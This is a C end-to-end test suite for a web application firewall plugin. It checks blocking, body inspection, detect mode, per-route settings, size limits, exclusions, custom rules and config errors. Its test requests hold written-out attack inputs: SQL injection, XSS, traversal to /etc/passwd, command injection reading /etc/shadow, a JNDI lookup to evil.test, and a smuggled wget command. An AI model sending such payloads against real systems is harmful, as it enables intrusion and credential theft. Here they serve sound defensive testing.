/* waf.so in the real foyer: a blocked request never reaches the backend (the
 * backend counts), bodies are inspected before anything goes upstream
 * (form, JSON, multipart, chunked), detect mode passes and logs, a route can
 * change the mode and the threshold, the oversize-body policy, exclusions,
 * custom rules, and configuration errors with their line. */
#include "../e2e/harness.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define T_MS 5000

/* foyer with `plugin "waf" { <settings> }`; /detect/ routes in detect mode,
 * /lenient/ with threshold 100, /off/ with the WAF off. */
static void start(struct e2e_foyer *f, int backend, const char *settings)
{
    e2e_foyer_start(
        f,
        "set { workers = 1 }\n"
        "plugin 'waf' { path = '%s'%s%s }\n"
        "service 'app' { endpoints = { '127.0.0.1:%d' } }\n"
        "route(function(req)\n"
        "  if req.path:find('^/detect/') then\n"
        "    return { service = 'app', plugins = { waf = { mode = 'detect' } } }\n"
        "  elseif req.path:find('^/lenient/') then\n"
        "    return { service = 'app', plugins = { waf = { threshold = 100 } } }\n"
        "  elseif req.path:find('^/off/') then\n"
        "    return { service = 'app', plugins = { waf = { mode = 'off' } } }\n"
        "  end\n"
        "  return 'app'\n"
        "end)\n",
        e2e_plugin_so("waf"), *settings ? ", " : "", settings, backend);
}

/* One request (extra: header lines, then optionally "\r\n" + body). */
static int send(int port, const char *method, const char *target, const char *extra,
                struct e2e_resp *r)
{
    memset(r, 0, sizeof *r);
    int rc = e2e_http(port, method, "shop.test", target, extra, r, T_MS);
    return rc == 1 ? r->status : -1;
}

static int status_of(int port, const char *method, const char *target, const char *extra)
{
    struct e2e_resp r;
    int st = send(port, method, target, extra, &r);
    e2e_resp_free(&r);
    return st;
}

/* A body with its Content-Length and type, as extra header lines. */
static const char *with_body(const char *type, const char *body)
{
    static char buf[4][8192];
    static int next;
    char *b = buf[next++ % 4];
    snprintf(b, sizeof buf[0], "Content-Type: %s\r\nContent-Length: %zu\r\n\r\n%s", type,
             strlen(body), body);
    return b;
}

E2E_TEST(blocked_requests_never_reach_the_backend, 30)
{
    struct e2e_backend be = e2e_backend_start("b");
    struct e2e_foyer f;
    start(&f, be.port, "");
    struct e2e_resp r;
    CHECK_INT(send(f.port, "GET", "/search?q=1%27%20OR%20%271%27%3D%271", NULL, &r), 403);
    char id[128], needle[192];
    REQUIRE(e2e_resp_header(&r, "X-Request-Id", id, sizeof id) != NULL);
    CHECKF(r.body && strstr(r.body, id) != NULL, "the body names the id %s: %s", id,
           r.body);
    /* the id is random hex (it may hold "942" itself): the rest tells nothing */
    char *rest = r.body ? e2e_replace(strdup(r.body), id, "") : NULL;
    CHECKF(rest && strstr(rest, "request id: ") && !strstr(rest, "942") &&
               !strstr(rest, "sqli"),
           "403 body names an id only: %s", r.body);
    free(rest);
    e2e_resp_free(&r);
    snprintf(needle, sizeof needle, "blocked id=%s ",
             id); /* foyer's id: the access log's */
    CHECK(e2e_foyer_log_wait(&f, needle, T_MS));
    CHECK(e2e_foyer_log_wait(&f, "ARGS:q", T_MS));
    CHECK_INT(status_of(f.port, "GET", "/page?x=%3Cscript%3Ealert(1)%3C/script%3E", NULL),
              403);
    CHECK_INT(status_of(f.port, "GET", "/download?file=../../../../etc/passwd", NULL),
              403);
    CHECK_INT(status_of(f.port, "GET", "/ping?host=127.0.0.1%3Bcat%20/etc/shadow", NULL),
              403);
    CHECK_INT(status_of(f.port, "GET", "/", "User-Agent: sqlmap/1.7.2#stable\r\n"), 403);
    CHECK_INT(
        status_of(f.port, "GET", "/x", "X-Api-Version: ${jndi:ldap://evil.test/a}\r\n"),
        403);
    CHECK_INT(e2e_backend_requests(be.port), 0);
    /* ordinary traffic passes */
    CHECK_INT(status_of(f.port, "GET", "/size/10?q=red+shoes&page=2", NULL), 200);
    CHECK_INT(status_of(f.port, "GET", "/size/10?name=O%27Brien", NULL), 200);
    CHECK_INT(e2e_backend_requests(be.port), 2);
}

E2E_TEST(bodies_inspected_before_upstream, 30)
{
    struct e2e_backend be = e2e_backend_start("b");
    struct e2e_foyer f;
    start(&f, be.port, "");
    CHECK_INT(status_of(f.port, "POST", "/login",
                        with_body("application/x-www-form-urlencoded",
                                  "user=admin%27--&pass=x")),
              403);
    CHECK_INT(
        status_of(f.port, "POST", "/api/comments",
                  with_body("application/json",
                            "{\"post\":7,\"text\":\"<img src=x onerror=alert(1)>\"}")),
        403);
    CHECK_INT(
        status_of(f.port, "PUT", "/api/users/7",
                  with_body("application/json",
                            "{\"filter\":{\"name\":{\"$where\":\"sleep(5000)\"}}}")),
        403);
    CHECK_INT(
        status_of(
            f.port, "POST", "/upload",
            with_body("multipart/form-data; boundary=XyZ",
                      "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n"
                      "1 UNION SELECT password FROM users\r\n--XyZ--\r\n")),
        403);
    CHECK_INT(status_of(f.port, "POST", "/soap",
                        with_body("text/xml", "<order><note lang=\"en\">1 UNION SELECT "
                                              "password FROM users</note></order>")),
              403);
    /* chunked: decoded before inspection */
    CHECK_INT(status_of(f.port, "POST", "/api/x",
                        "Content-Type: application/x-www-form-urlencoded\r\n"
                        "Transfer-Encoding: chunked\r\n\r\n"
                        "7\r\ncmd=%3B\r\n10\r\nwget%20http://x/\r\n0\r\n\r\n"),
              403);
    CHECK_INT(e2e_backend_requests(be.port), 0);
    /* benign bodies with quotes and prose pass whole */
    struct e2e_resp r;
    const char *json = "{\"review\":\"It's the best pizza I've had; don't miss it!\","
                       "\"stars\":5,\"tags\":[\"cheese\",\"crust\"]}";
    CHECK_INT(send(f.port, "POST", "/echo", with_body("application/json", json), &r),
              200);
    CHECKF(r.body && strcmp(r.body, json) == 0, "echoed: %s", r.body);
    e2e_resp_free(&r);
    CHECK_INT(
        status_of(f.port, "POST", "/sink",
                  with_body("application/json",
                            "{\"query\":\"query { order(id: 7) { items { name } } }\"}")),
        200);
    CHECK_INT(status_of(f.port, "DELETE", "/size/0", NULL), 200);
    CHECK_INT(status_of(f.port, "POST", "/sink",
                        with_body("application/xml",
                                  "<order id=\"7\"><note>Don't ring, it's late; "
                                  "leave it by the door</note></order>")),
              200);
}

E2E_TEST(detect_mode_and_per_route_settings, 30)
{
    struct e2e_backend be = e2e_backend_start("b");
    struct e2e_foyer f;
    start(&f, be.port, "");
    const char *attack = "?id=1%20UNION%20SELECT%20user,pass%20FROM%20users";
    char target[256];
    snprintf(target, sizeof target, "/detect/size/5%s", attack);
    CHECK_INT(status_of(f.port, "GET", target, NULL), 200);
    CHECK(e2e_foyer_log_wait(&f, "detected id=", T_MS));
    snprintf(target, sizeof target, "/lenient/size/5%s", attack);
    CHECK_INT(status_of(f.port, "GET", target, NULL), 200);
    snprintf(target, sizeof target, "/off/size/5%s", attack);
    CHECK_INT(status_of(f.port, "GET", target, NULL), 200);
    snprintf(target, sizeof target, "/size/5%s", attack);
    CHECK_INT(status_of(f.port, "GET", target, NULL), 403);
    CHECK_INT(e2e_backend_requests(be.port), 3);
}

E2E_TEST(global_detect_mode, 30)
{
    struct e2e_backend be = e2e_backend_start("b");
    struct e2e_foyer f;
    start(&f, be.port, "mode = 'detect'");
    CHECK_INT(status_of(f.port, "GET", "/size/1?x=%3Csvg%20onload%3Dalert(1)%3E", NULL),
              200);
    CHECK(e2e_foyer_log_wait(&f, "detected id=", T_MS));
    CHECK_INT(e2e_backend_requests(be.port), 1);
}

E2E_TEST(oversize_body_policies, 30)
{
    struct e2e_backend be = e2e_backend_start("b");
    struct e2e_foyer f, g;
    start(&f, be.port, "max_body = 1024, body_over_limit = 'reject'");
    char big[3000];
    memset(big, 'a', sizeof big - 1);
    big[sizeof big - 1] = '\0';
    memcpy(big, "text=", 5);
    struct e2e_resp r;
    CHECK_INT(send(f.port, "POST", "/sink",
                   with_body("application/x-www-form-urlencoded", big), &r),
              413);
    e2e_resp_free(&r);
    CHECK_INT(status_of(f.port, "POST", "/sink",
                        with_body("application/x-www-form-urlencoded", "text=short")),
              200);
    /* inspect: the first max_body bytes are looked at, the rest passes */
    start(&g, be.port, "max_body = 1024");
    CHECK_INT(status_of(g.port, "POST", "/sink",
                        with_body("application/x-www-form-urlencoded", big)),
              200);
    char late[3100];
    snprintf(late, sizeof late, "%.2000s&q=1%%27%%20OR%%201%%3D1--", big);
    CHECK_INT(status_of(g.port, "POST", "/sink",
                        with_body("application/x-www-form-urlencoded", late)),
              200); /* past max_body: not seen, as configured */
    snprintf(late, sizeof late, "q=1%%27%%20OR%%201%%3D1--&%.2000s", big);
    CHECK_INT(status_of(g.port, "POST", "/sink",
                        with_body("application/x-www-form-urlencoded", late)),
              403);
}

E2E_TEST(exclusions_and_custom_rules, 30)
{
    struct e2e_backend be = e2e_backend_start("b");
    struct e2e_foyer f;
    start(&f, be.port,
          "exclusions = { { path = '/cms/', arg = 'ARGS:html' } },\n"
          "  rules = { { id = 100001, variable = 'REQUEST_HEADERS:User-Agent',"
          " operator = 'contains', pattern = 'evilbot', score = 5 },\n"
          "            { id = 100002, variable = 'ARGS:token', operator = 'regex',"
          " pattern = '^[0-9]+$', score = 5 } }");
    const char *xss = "html=%3Cscript%3Ealert(1)%3C/script%3E";
    char target[256];
    snprintf(target, sizeof target, "/cms/size/1?%s", xss);
    CHECK_INT(status_of(f.port, "GET", target, NULL), 200); /* excluded there */
    snprintf(target, sizeof target, "/blog/size/1?%s", xss);
    CHECK_INT(status_of(f.port, "GET", target, NULL), 403); /* not elsewhere */
    CHECK_INT(status_of(f.port, "GET", "/size/1", "User-Agent: EvilBot/2.0\r\n"), 403);
    CHECK(e2e_foyer_log_wait(&f, "100001", T_MS));
    CHECK_INT(status_of(f.port, "GET", "/size/1?token=12345", NULL), 403);
    CHECK_INT(status_of(f.port, "GET", "/size/1?token=abc", NULL), 200);
}

/* foyer -t: the message for a bad setting. */
static void refused(const char *settings, const char *needle)
{
    char conf[2048], out[4096];
    snprintf(conf, sizeof conf,
             "listen '127.0.0.1:1'\n\nplugin 'waf' { path = '%s', %s }\n"
             "route(function(req) return nil end)\n",
             e2e_plugin_so("waf"), settings);
    const char *path = e2e_path("bad.lua");
    REQUIRE(e2e_write_file(path, conf));
    char *argv[] = {(char *)e2e_env("FOYER_BIN"), "-t", "-c", (char *)path, NULL};
    CHECK(e2e_run(argv, out, sizeof out, T_MS) != 0);
    CHECKF(strstr(out, "bad.lua:3:") && strstr(out, needle), "'%s' -> %s", settings, out);
}

E2E_TEST(configuration_errors, 30)
{
    refused("mode = 'blok'", "mode must be");
    refused("threshold = 0", "threshold");
    refused("treshold = 5", "unknown key 'treshold'");
    refused("body_over_limit = 'drop'", "body_over_limit");
    refused(
        "rules = { { id = 1, variable = 'ARGS', operator = 'regex', pattern = '(' } }",
        "rules[1]");
    refused(
        "rules = { { id = 1, variable = 'NOPE', operator = 'contains', pattern = 'x' } }",
        "rules[1]");
    refused("exclusions = { { } }", "exclusions[1]");
    refused("disable = { 'x' }", "disable[1]");
}

int main(void)
{
    static const struct e2e_case cases[] = {
        E2E_CASE(blocked_requests_never_reach_the_backend),
        E2E_CASE(bodies_inspected_before_upstream),
        E2E_CASE(detect_mode_and_per_route_settings),
        E2E_CASE(global_detect_mode),
        E2E_CASE(oversize_body_policies),
        E2E_CASE(exclusions_and_custom_rules),
        E2E_CASE(configuration_errors),
    };
    return e2e_run_suite("waf plugin end to end", cases, sizeof cases / sizeof *cases);
}
